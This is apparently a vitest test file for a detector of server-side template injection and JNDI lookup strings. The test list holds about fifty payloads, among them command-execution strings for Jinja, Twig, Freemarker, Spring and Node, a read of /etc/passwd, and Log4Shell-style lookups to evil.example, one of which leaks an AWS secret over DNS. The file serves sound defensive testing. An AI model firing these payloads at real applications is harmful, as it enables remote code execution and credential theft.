import { describe, expect, test } from 'vitest';
import { createValueInspector, type ValueAt } from '../testing/value.ts';
import { templateDetector } from './detector.ts';

const inspect = createValueInspector([templateDetector]);

describe('templateDetector', () => {
  const attacks: readonly (readonly [string, string, ValueAt?])[] = [
    ['ssti', '{{7*7}}'],
    ['ssti', "{{7*'7'}}"],
    ['ssti', '${7*7}'],
    ['ssti', '#{7*7}'],
    ['ssti', '*{7*7}'],
    ['ssti', '<%= 7*7 %>'],
    ['ssti', '${{7*7}}'],
    ['ssti', '{{config}}'],
    ['ssti', '{{config.items()}}'],
    ['ssti', '{{self.__init__.__globals__}}'],
    ['ssti', "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"],
    ['ssti', "{{''.__class__.__mro__[1].__subclasses__()}}"],
    ['ssti', '{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}'],
    ['ssti', '{{_self.env.display("x")}}'],
    ['ssti', "{{['cat /etc/passwd']|filter('system')}}"],
    ['ssti', "${T(java.lang.Runtime).getRuntime().exec('id')}"],
    ['ssti', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'],
    ['ssti', "#set($x='')##$x.class.forName('java.lang.Runtime')"],
    ['ssti', '{php}phpinfo();{/php}'],
    ['ssti', "{system('id')}"],
    ['ssti', "{{constructor.constructor('alert(1)')()}}"],
    ['ssti', '@(7*7)'],
    ['ssti', '@{7*7}'],
    ['ssti', '[[${7*7}]]'],
    ['ssti', '__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x'],
    ['java', '${jndi:ldap://evil.example/a}'],
    ['java', '${${lower:j}ndi:ldap://evil.example/a}'],
    ['java', '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}'],
    ['java', '${jndi:dns://${env:AWS_SECRET}.evil.example}'],
    ['java', '${env:AWS_SECRET_ACCESS_KEY}'],
    ['ssti', '<%= system("id") %>'],
    ['ssti', '<%= `id` %>'],
    ['ssti', "{{ cycler.__init__.__globals__.os.popen('id').read() }}"],
    ['ssti', "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"],
    ['ssti', '{{#with "s" as |string|}}{{#with "e"}}x{{/with}}{{/with}}'],
    ['ssti', '{% import os %}{{ os.popen("id").read() }}'],
    ['ssti', '${self.module.cache.util.os.system("id")}'],
    ['ssti', '{{ dump(app) }}'],
    ['ssti', "{{ app.request.server.all|join(',') }}"],
    ['ssti', '{{4*4}}[[5*5]]'],
    ['ssti', '${"z".join("ab")}'],
    ['ssti', "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"],
    ['ssti', '${9999+1}'],
    ['ssti', "{{ ''.class.forName('java.lang.Runtime') }}"],
    ['ssti', "{if system('id')}{/if}"],
    ['ssti', '{{phpinfo()}}'],
    ['ssti', '${@phpinfo()}'],
    ['ssti', '{${phpinfo()}}'],
    ['ssti', "redirect:${%23a%3d(new java.lang.ProcessBuilder('id')).start()}"],
  ];

  test.each(attacks)('%s is blocked: %j', (attackClass, text, at) => {
    const { action, findings } = inspect(text, at);
    expect({ action, classes: [...new Set(findings.map((finding) => finding.class))] }).toMatchObject({
      action: 'block',
      classes: expect.arrayContaining([attackClass]),
    });
  });
});
